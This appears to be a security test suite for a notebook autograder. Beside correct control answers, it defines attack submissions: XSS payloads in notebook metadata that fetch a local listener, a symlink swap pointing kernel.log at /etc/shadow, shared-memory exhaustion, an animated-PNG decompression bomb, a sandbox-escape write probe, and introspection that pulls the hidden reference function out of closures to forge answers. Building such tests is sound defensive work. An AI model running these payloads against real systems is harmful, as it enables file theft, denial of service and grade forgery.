    "conv_forward_naive": "import numpy as np\n\n\ndef conv_forward_naive(x, w, b, stride=1, pad=0):\n    N, C, H, W = x.shape\n    K, _, F, _ = w.shape\n    return np.zeros((N, K, conv_output_size(H, F, stride, pad), conv_output_size(W, F, stride, pad)))\n",
    "conv_forward_fast": "def conv_forward_fast(x, w, b, stride=1, pad=0):\n    N, C, H, W = x.shape\n    K, _, F, _ = w.shape\n    return np.zeros((N, K, conv_output_size(H, F, stride, pad), conv_output_size(W, F, stride, pad)))\n",
})

# correct answers that are not plain functions: a partial of a ufunc, a callable instance, a bound method
ATTACKS["03_honest_callables"] = ("03", {
    "relu": "import functools\nimport numpy as np\n\nrelu = functools.partial(np.maximum, 0.0)\n",
    "max_pool": r'''
from numpy.lib.stride_tricks import sliding_window_view


class _Pool:
    def __init__(self, reduce):
        self.reduce = reduce

    def __call__(self, x, size=2, stride=2):
        N, C, H, W = x.shape
        Ho, Wo = output_size(H, size, stride), output_size(W, size, stride)
        win = sliding_window_view(x, (size, size), axis=(2, 3))[:, :, ::stride, ::stride][:, :, :Ho, :Wo]
        return self.reduce(win, axis=(4, 5))

    def avg(self, x, size=2, stride=2):
        return _Pool(np.mean)(x, size, stride)


max_pool = _Pool(np.max)
''',
    "avg_pool": "avg_pool = _Pool(np.max).avg\n",
})

ATTACKS["12_unwrapped_rule"] = ("12", {
    "conv_output_size_dilated": FORGE2 + r'''
_geo = _find("geo", "try", cnnlib)
_kept = _find("conv_out", "_size", _geo)
_rule = getattr(_kept, "__wrap" + "ped__", None) or getattr(_kept, "__func" + "__", None)
print("kept:", type(_kept).__name__, "unwrapped:", _rule)


def conv_output_size_dilated(W, F, S=1, P=0, D=1):
    return int(_rule(W, F, S, P, D))
''',
})

ATTACKS["03_feedback_metadata"] = ("03", {
    "=nbmeta": {"kernelspec": {"name": "python3\" onmouseover=\"fetch('http://127.0.0.1:18953/ks')",
                               "display_name": "</title><style>body{display:none}</style><script>fetch('http://127.0.0.1:18953/title')</script>",
                               "language": "python"},
                "language_info": {"name": "python\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red",
                                  "pygments_lexer": "ipython3\"><img src=x onerror=fetch('http://127.0.0.1:18953/lexer')>",
                                  "codemirror_mode": {"name": "ipython", "version": 3},
                                  "file_extension": ".py\"><script>fetch('http://127.0.0.1:18953/ext')</script>",
                                  "mimetype": "text/x-python"},
                "title": "<script>fetch('http://127.0.0.1:18953/meta-title')</script>"},
    "=md": "![pic](attachment:a%22%20onerror=%22fetch('http://127.0.0.1:18953/attach')%22.png) "
           "<img src=\"attachment:x.png\" onerror=\"fetch('http://127.0.0.1:18953/attach2')\">\n",
})

# honest answers among ordinary notebook habits: these must keep full marks, unflagged, without notes
ATTACKS["04_honest_habits"] = ("04", {
    "+start": "%load_ext autoreload\n%autoreload 2\n%matplotlib inline\nimport sys\nimport warnings\n"
              "sys.setrecursionlimit(5000)\nwarnings.filterwarnings('ignore')\n",
    "flatten": "import numpy as np\n\n\ndef flatten(x):\n    return x.reshape(x.shape[0], -1)\n",
    "+test_flatten_input_unchanged": "%timeit flatten(np.zeros((8, 3, 4, 4)))\nimport inspect\nprint(inspect.getsource(flatten))\n",
    "affine_forward": "def affine_forward(x, w, b):\n    return flatten(x) @ w + b\n",
    "softmax": "def softmax(scores):\n    e = np.exp(scores - scores.max(axis=1, keepdims=True))\n    return e / e.sum(axis=1, keepdims=True)\n",
    "+test_softmax_input_unchanged": "%%time\nold = np.seterr(all='ignore')\n_probe = softmax(np.random.default_rng(0).standard_normal((4, 3)))\nnp.seterr(**old)\nprint(_probe.sum(axis=1))\n",
    "cross_entropy_loss": "def cross_entropy_loss(scores, y):\n    s = scores - scores.max(axis=1, keepdims=True)\n"
                          "    logp = s - np.log(np.exp(s).sum(axis=1, keepdims=True))\n    return float(-logp[np.arange(len(y)), y].mean())\n",
    "squared_error": "def squared_error(probs, targets):\n    return float(0.5 * ((targets - probs) ** 2).sum(axis=1).mean())\n",
})

# the kernel's run folder is shared with the worker, which may read kernel.log (the kernel's stdout) when the
# kernel dies: replace it with a link to a file only root can read, then die
RUNFOLDER = r'''
import os, signal, sys
os.chdir(os.path.expanduser("~"))
print("run folder:", os.getcwd(), os.listdir("."))
for name, target in [("kernel.log", "/etc/shadow"), ("kernel.json.bak", "/etc/shadow")]:
    try:
        if os.path.lexists(name):
            os.remove(name)
        os.symlink(target, name)
        print("linked", name, "->", target)
    except Exception as e:
        print("link", name, e)
try:
    os.mkfifo("stderr.fifo")
except Exception as e:
    print(e)
sys.stdout.flush()
os.write(2, b"about to die\n")
os._exit(139)       # PID 1 of its namespace ignores its own SIGSEGV: leave by exit
'''
ATTACKS["03_runfolder_links"] = ("03", {"+test_relu_input_unchanged": RUNFOLDER})

# memory outside every process: SysV shared memory, touched through an attachment and then detached
SYSV = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
IPC_PRIVATE, IPC_CREAT = 0, 0o1000
held = 0
for _ in range(8):                        # 8 x 256 MiB = 2 GiB
    size = 256 << 20
    sid = libc.shmget(IPC_PRIVATE, ctypes.c_size_t(size), IPC_CREAT | 0o600)
    if sid < 0:
        print("shmget failed", ctypes.get_errno())
        break
    addr = libc.shmat(sid, None, 0)
    ctypes.memset(addr, 1, size)          # every page touched
    libc.shmdt(ctypes.c_void_p(addr))     # nothing maps it any more
    held += size
print("SysV shared memory held, unmapped:", held >> 20, "MiB")
print(open("/proc/sysvipc/shm").read()[:600])
import time
time.sleep(20)
print("still alive after 20 s")
'''
ATTACKS["03_sysv_shm"] = ("03", {"+test_relu_input_unchanged": SYSV})

# correct answers written unusually in 12: numpy integers in nested tuples, a Sequential built from an OrderedDict
ATTACKS["12_honest_unusual"] = ("12", {
    "separable_cost": "import numpy as np\n\n\ndef separable_cost(C_in, C_out, F, H_out, W_out):\n"
                      "    pos = np.int64(H_out) * np.int64(W_out)\n"
                      "    std = np.int64(F * F * C_in * C_out)\n    sep = np.int64(F * F * C_in + C_in * C_out)\n"
                      "    return ((std, std * pos), (sep, sep * pos))\n",
    "depthwise_separable": "from collections import OrderedDict\nfrom torch import nn\n\n\n"
                           "def depthwise_separable(in_channels, out_channels, stride=1):\n"
                           "    return nn.Sequential(OrderedDict([\n"
                           "        ('depthwise', nn.Conv2d(in_channels, in_channels, 3, stride, padding=1, groups=in_channels, bias=False)),\n"
                           "        ('bn1', nn.BatchNorm2d(in_channels)), ('relu1', nn.ReLU()),\n"
                           "        ('pointwise', nn.Conv2d(in_channels, out_channels, 1, bias=False)),\n"
                           "        ('bn2', nn.BatchNorm2d(out_channels)), ('relu2', nn.ReLU(inplace=True))]))\n",
})

# the same original without __wrapped__: the wrapper's closure cells and gc's view of it
ATTACKS["12_closure_rule"] = ("12", {
    "conv_output_size_dilated": FORGE2 + r'''
import gc
_geo = _find("geo", "try", cnnlib)
_kept = _find("conv_out", "_size", _geo)
_found = {}
for _i, _c in enumerate(getattr(_kept, "__closure__", None) or ()):
    try:
        _v = _c.cell_contents
    except ValueError:
        continue
    if callable(_v) and getattr(_v, "__name__", "") == _kept.__name__ and _v is not _kept:
        _found.setdefault("closure", _v)
for _v in gc.get_referents(*[c for c in (getattr(_kept, "__closure__", None) or ())]):
    if callable(_v) and getattr(_v, "__name__", "") == _kept.__name__ and _v is not _kept:
        _found.setdefault("gc", _v)
print("routes to the original:", sorted(_found))
_rule = _found.get("gc") or _found.get("closure")


def conv_output_size_dilated(W, F, S=1, P=0, D=1):
    return int(_rule(W, F, S, P, D))
''',
})

# `check` is what an instructor runs on one learner's notebook to reproduce a grade: what can it reach?
CHECK_PROBE = r'''
import os
print("CHECKPROBE uid", os.getuid(), "solutions visible:", os.path.exists("/work/wt/attack6/solutions"),
      "home:", os.path.expanduser("~"))
for target in ("/tmp/attack6/check_escape.txt", os.path.expanduser("~/check_escape.txt")):
    try:
        with open(target, "w") as f:
            f.write("written by a learner's notebook under `grader check`\n")
        print("CHECKPROBE wrote", target)
    except Exception as e:
        print("CHECKPROBE could not write", target, type(e).__name__)
'''
ATTACKS["03_check_reach"] = ("03", {"+test_relu_input_unchanged": CHECK_PROBE})

# an animated PNG of many 16-megapixel frames: small on the wire, large if the worker decodes every frame
APNG = r'''
import base64, io, time
from PIL import Image
from IPython.display import display
a = Image.new("1", (3999, 3999), 0)
b = Image.new("1", (3999, 3999), 1)
frames = [a if i % 2 else b for i in range(240)]
buf = io.BytesIO()
t0 = time.time()
a.save(buf, format="PNG", save_all=True, append_images=frames, duration=10, loop=0)
print("APNG bytes:", len(buf.getvalue()), "frames:", len(frames) + 1, "made in", round(time.time() - t0, 1), "s")
display({"image/png": base64.b64encode(buf.getvalue()).decode(), "text/plain": "an animation"}, raw=True)
'''
ATTACKS["03_apng_frames"] = ("03", {"+test_relu_input_unchanged": APNG})


# the same animation made beforehand (11 frames of 3999 x 3999, 58 kB; run 15 used 41 frames, 224 kB): what does the worker's re-encoding cost?
APNG41 = "iVBORw0KGgoAAAANSUhEUgAAD58AAA+fAQAAAACq0LJiAAAACGFjVEwAAAALAAAAAP6d8QEAAAAaZmNUTAAAAAAAAA+fAAAPnwAAAAAAAAAAAAEAZAAAEPtDrAAAB6xJREFUeJztwTEBAAAAwqD1T20MH6AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA4G5PtAAGV90/3AAAAGmZjVEwAAAABAAAPnwAAD58AAAAAAAAAAAABAGQAAIuIqXgAACNHZmRBVAAAAAJ4nO3RQQ0AIBDAMMC/58MFPNYqWLI9i5g5vwt4z/Qg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9